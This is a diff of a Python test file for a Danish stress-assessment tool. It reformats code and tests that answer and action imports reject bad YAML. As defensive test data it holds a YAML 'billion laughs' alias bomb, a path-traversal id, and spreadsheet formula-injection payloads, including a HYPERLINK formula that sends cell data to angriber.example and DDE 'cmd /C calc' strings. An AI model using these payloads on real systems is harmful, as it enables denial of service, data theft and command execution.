@@ -1,5 +1,6 @@
 """Files from outside (answers exports, institution.yaml) as an attacker or a careless hand would
 write them, and the action plan's exports as a spreadsheet would read them."""
+
 import csv
 import io
 import sqlite3
@@ -18,8 +19,11 @@ from stresskit.workbook import Workbook
 
 # Nine lists of nine, each made of the one above, and an answer holding the last: 9^9 strings.
 LAUGHS = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'] + [
-    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")]
-BOMB = "\n".join(LAUGHS) + """
+    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")
+]
+BOMB = (
+    "\n".join(LAUGHS)
+    + """
 answers:
 - unit: hum
   question: apv.signal.noter
@@ -27,6 +31,7 @@ answers:
   at: '2026-10-08T09:00:00.000000Z'
   value: *i
 """
+)
 
 
 def rows(book) -> list:
@@ -47,16 +52,26 @@ def refused(book, text: str, name: str = "svar.yaml") -> str:
     path = book.root / name
     path.write_text(text, encoding="utf-8")
     before = rows(book)
-    run = subprocess.run([sys.executable, "-m", "stresskit.cli", "answers", "import", str(book.root), str(path)],
-                         capture_output=True, text=True, timeout=300)
+    run = subprocess.run(
+        [sys.executable, "-m", "stresskit.cli", "answers", "import", str(book.root), str(path)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert run.returncode == 1 and "Traceback" not in run.stderr and "Der er fejl, der skal rettes" in run.stderr
     assert rows(book) == before
     return run.stderr
 
 
 def entries(**answer) -> str:
-    row = {"unit": "hum", "question": "apv.signal.noter", "value": "tekst", "who": "Mette",
-           "at": "2026-10-08T09:00:00.000000Z", **answer}
+    row = {
+        "unit": "hum",
+        "question": "apv.signal.noter",
+        "value": "tekst",
+        "who": "Mette",
+        "at": "2026-10-08T09:00:00.000000Z",
+        **answer,
+    }
     return yaml.safe_dump({"answers": [row]}, allow_unicode=True)
 
 
@@ -100,8 +115,9 @@ def test_an_oversize_file_is_refused_by_its_size(book):
 
 def test_institution_yaml_gets_the_same_guard(example, capsys):
     text = (example / "institution.yaml").read_text(encoding="utf-8")
-    (example / "institution.yaml").write_text(text.replace("name: Fjordby Gymnasium", "name: &n Fjordby\nx: *n", 1),
-                                              encoding="utf-8")
+    (example / "institution.yaml").write_text(
+        text.replace("name: Fjordby Gymnasium", "name: &n Fjordby\nx: *n", 1), encoding="utf-8"
+    )
     line = text.split("name: Fjordby Gymnasium", 1)[0].count("\n") + 2  # the alias is on the line after
     assert cli.main(["validate", str(example)]) == 1
     assert f"institution.yaml, række {line}: fandt «*n», YAML-aliasser" in capsys.readouterr().out
@@ -114,25 +130,47 @@ def test_an_answer_dated_in_the_future_is_refused(book):
 
 
 def question_of(kind: str, scale: str | None = None) -> str:
-    return next(q.id for q in guide.default().questions.values() if q.kind == kind and (scale is None or q.scale == scale))
+    return next(
+        q.id for q in guide.default().questions.values() if q.kind == kind and (scale is None or q.scale == scale)
+    )
 
 
-@pytest.mark.parametrize("kind, scale, bad, good, expected", [
-    ("choice", "grad_1_5", "6", 3, "forventede en af 1, 2, 3, 4, 5."),
-    ("choice", "fase_status", "færdig", "i_gang", "forventede en af ikke_startet, i_gang, gennemfoert."),
-    ("checklist", "@exposures", ["ikke_en_paavirkning"], [], "forventede en liste uden gentagelser"),
-    ("check", None, "ja", True, "forventede true eller false"),
-    ("number", None, "mange", 28.6, "forventede et tal."),
-    ("date", None, "i morgen", "2026-11-15", "forventede en dato som 2026-11-15."),
-    ("text", None, [["dybt"]], "Et svar", "forventede en tekst på højst 10000 tegn."),
-    ("text", None, "x" * 10_001, None, "forventede en tekst på højst 10000 tegn."),
-])
+@pytest.mark.parametrize(
+    "kind, scale, bad, good, expected",
+    [
+        ("choice", "grad_1_5", "6", 3, "forventede en af 1, 2, 3, 4, 5."),
+        ("choice", "fase_status", "færdig", "i_gang", "forventede en af ikke_startet, i_gang, gennemfoert."),
+        ("checklist", "@exposures", ["ikke_en_paavirkning"], [], "forventede en liste uden gentagelser"),
+        ("check", None, "ja", True, "forventede true eller false"),
+        ("number", None, "mange", 28.6, "forventede et tal."),
+        ("date", None, "i morgen", "2026-11-15", "forventede en dato som 2026-11-15."),
+        ("text", None, [["dybt"]], "Et svar", "forventede en tekst på højst 10000 tegn."),
+        ("text", None, "x" * 10_001, None, "forventede en tekst på højst 10000 tegn."),
+    ],
+)
 def test_each_value_must_fit_its_questions_kind(book, kind, scale, bad, good, expected):
     question = question_of(kind, scale)
-    text = yaml.safe_dump({"answers": [
-        {"unit": "ledelse", "question": question, "value": good, "who": "Mette", "at": "2026-10-08T09:00:00.000000Z"},
-        {"unit": "ledelse", "question": question, "value": bad, "who": "Mette", "at": "2026-10-08T09:01:00.000000Z"}]},
-        allow_unicode=True)
+    text = yaml.safe_dump(
+        {
+            "answers": [
+                {
+                    "unit": "ledelse",
+                    "question": question,
+                    "value": good,
+                    "who": "Mette",
+                    "at": "2026-10-08T09:00:00.000000Z",
+                },
+                {
+                    "unit": "ledelse",
+                    "question": question,
+                    "value": bad,
+                    "who": "Mette",
+                    "at": "2026-10-08T09:01:00.000000Z",
+                },
+            ]
+        },
+        allow_unicode=True,
+    )
     message = refused(book, text)
     assert "svar.yaml, kolonne «answers[2].value»" in message and expected in message
     assert "answers[1]" not in message
@@ -151,13 +189,30 @@ def test_an_action_question_takes_no_answer(book):
 
 
 def test_action_fields_are_checked_and_each_is_named(book):
-    data = {"measure": "Tiltag", "deadline": "i morgen", "followup": "2026-12-01", "level": "alle",
-            "phase": "forebyggelse", "status": "<b>klar</b>", "priority": "hoej", "responsible": "x" * 201, "farve": "rød"}
-    text = yaml.safe_dump({"actions": [{"id": "../x", "unit": "hum", "who": "Mette",
-                                        "at": "2026-10-08T09:00:00.000000Z", "data": data}]}, allow_unicode=True)
+    data = {
+        "measure": "Tiltag",
+        "deadline": "i morgen",
+        "followup": "2026-12-01",
+        "level": "alle",
+        "phase": "forebyggelse",
+        "status": "<b>klar</b>",
+        "priority": "hoej",
+        "responsible": "x" * 201,
+        "farve": "rød",
+    }
+    text = yaml.safe_dump(
+        {"actions": [{"id": "../x", "unit": "hum", "who": "Mette", "at": "2026-10-08T09:00:00.000000Z", "data": data}]},
+        allow_unicode=True,
+    )
     message = refused(book, text)
-    for entry in ("actions[1].id»", "actions[1].data.deadline»: fandt «i morgen»", "actions[1].data.level»",
-                  "actions[1].data.status»", "actions[1].data.responsible»", "actions[1].data.farve»: feltet kendes ikke"):
+    for entry in (
+        "actions[1].id»",
+        "actions[1].data.deadline»: fandt «i morgen»",
+        "actions[1].data.level»",
+        "actions[1].data.status»",
+        "actions[1].data.responsible»",
+        "actions[1].data.farve»: feltet kendes ikke",
+    ):
         assert entry in message
     assert "data.followup" not in message and "data.phase" not in message and "data.priority" not in message
 
@@ -169,7 +224,9 @@ def test_export_and_import_round_trip_and_a_second_import_adds_nothing(book, tmp
     assert answers.import_(book, first) == (0, 0) and rows(book) == before
     fresh = tmp_path / "fresh"
     fresh.mkdir()
-    (fresh / "institution.yaml").write_text((book.root / "institution.yaml").read_text(encoding="utf-8"), encoding="utf-8")
+    (fresh / "institution.yaml").write_text(
+        (book.root / "institution.yaml").read_text(encoding="utf-8"), encoding="utf-8"
+    )
     fresh_book = Workbook.open(fresh)
     assert answers.import_(fresh_book, first) == (111, 7)
     assert answers.import_(fresh_book, first) == (0, 0)
@@ -179,12 +236,39 @@ def test_export_and_import_round_trip_and_a_second_import_adds_nothing(book, tmp
 
 def test_an_action_dated_in_words_never_crashes_run_or_export_plan(book, tmp_path, monkeypatch):
     with Store(book.store_path) as store:  # as an old version or a hand in the database left it
-        store.save_action("hum", {"measure": "Aftal pauser", "deadline": "i morgen", "followup": 20261201,
-                                  "status": "planlagt", "phase": "forebyggelse", "level": "gruppe"})
+        store.save_action(
+            "hum",
+            {
+                "measure": "Aftal pauser",
+                "deadline": "i morgen",
+                "followup": 20261201,
+                "status": "planlagt",
+                "phase": "forebyggelse",
+                "level": "gruppe",
+            },
+        )
     monkeypatch.setenv("STRESSKIT_TODAY", "2030-01-01")  # every real deadline has passed
     out = tmp_path / "ud"
-    run = subprocess.run([sys.executable, "-m", "stresskit.cli", "run", str(book.root), "--out", str(out),
-                          "--units", "hum", "--notebooks", "6", "--jobs", "1"], capture_output=True, text=True, timeout=600)
+    run = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "stresskit.cli",
+            "run",
+            str(book.root),
+            "--out",
+            str(out),
+            "--units",
+            "hum",
+            "--notebooks",
+            "6",
+            "--jobs",
+            "1",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
     assert run.returncode == 0, run.stdout + run.stderr
     assert "Traceback" not in run.stderr
     index = (out / "index.html").read_text(encoding="utf-8")
@@ -197,26 +281,38 @@ def test_an_action_dated_in_words_never_crashes_run_or_export_plan(book, tmp_pat
     assert "<b>Aftal pauser</b> — Gruppe · ingen ansvarlig · frist i morgen · Planlagt" in report  # the text given
     plan = tmp_path / "plan.csv"
     assert cli.main(["export-plan", str(book.root), "--out", str(plan), "--units", "hum"]) == 0
-    found = [r for r in csv.reader(io.StringIO(plan.read_text(encoding="utf-8-sig")), delimiter=";") if r[2] == "Aftal pauser"]
+    found = [
+        r
+        for r in csv.reader(io.StringIO(plan.read_text(encoding="utf-8-sig")), delimiter=";")
+        if r[2] == "Aftal pauser"
+    ]
     assert found[0][4:6] == ["i morgen", "20261201"]
     assert cli.main(["export-plan", str(book.root), "--out", str(tmp_path / "plan.xlsx")]) == 0
 
 
-PAYLOADS = {"measure": '=HYPERLINK("http://angriber.example/?"&A1;"Klik her")', "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
-            "problem": "-2+3+cmd|' /C calc'!A0", "deadline": None}
+PAYLOADS = {
+    "measure": '=HYPERLINK("http://angriber.example/?"&A1;"Klik her")',
+    "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "problem": "-2+3+cmd|' /C calc'!A0",
+    "deadline": None,
+}
 
 
 def test_formula_like_text_is_text_in_xlsx_and_csv(book, tmp_path):
     with Store(book.store_path) as store:
         store.save_action("hum", {**PAYLOADS, "status": "planlagt"})
-        store.save_action("hum", {"measure": "\t=1+1", "responsible": "+45 12 34 56 78", "problem": "\r=2",
-                                  "status": "planlagt"})
+        store.save_action(
+            "hum", {"measure": "\t=1+1", "responsible": "+45 12 34 56 78", "problem": "\r=2", "status": "planlagt"}
+        )
     xlsx, csv_path = tmp_path / "plan.xlsx", tmp_path / "plan.csv"
     assert cli.main(["export-plan", str(book.root), "--out", str(xlsx)]) == 0
     assert cli.main(["export-plan", str(book.root), "--out", str(csv_path), "--units", "hum"]) == 0
     with zipfile.ZipFile(xlsx) as z:  # no formula anywhere in the file, as Excel would read it
-        assert not any("<f>" in z.read(n).decode() or "<f " in z.read(n).decode() for n in z.namelist()
-                       if n.startswith("xl/worksheets/"))
+        assert not any(
+            "<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
+            for n in z.namelist()
+            if n.startswith("xl/worksheets/")
+        )
     wb = openpyxl.load_workbook(xlsx)
     cells = [c for ws in wb for row in ws.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
@@ -236,8 +332,11 @@ def test_a_stored_action_or_date_answer_of_any_shape_reads_safely():
     from stresskit.live import forms
     from stresskit.store import ActionVersion
 
-    a = actions.Action.from_version(ActionVersion(1, "x", "hum", {"measure": 5, "status": None, "deadline": "i morgen",
-                                                                  "followup": "2026-02-30"}, "Mette", ""))
+    a = actions.Action.from_version(
+        ActionVersion(
+            1, "x", "hum", {"measure": 5, "status": None, "deadline": "i morgen", "followup": "2026-02-30"}, "Mette", ""
+        )
+    )
     assert (a.measure, a.status, a.deadline, a.followup) == ("5", "planlagt", None, None)
     assert not a.overdue(date(2100, 1, 1)) and actions.flags(a, date(2100, 1, 1)) == []
     assert a.data()["deadline"] == "i morgen" and a.data()["followup"] == "2026-02-30"  # saved again, kept as given
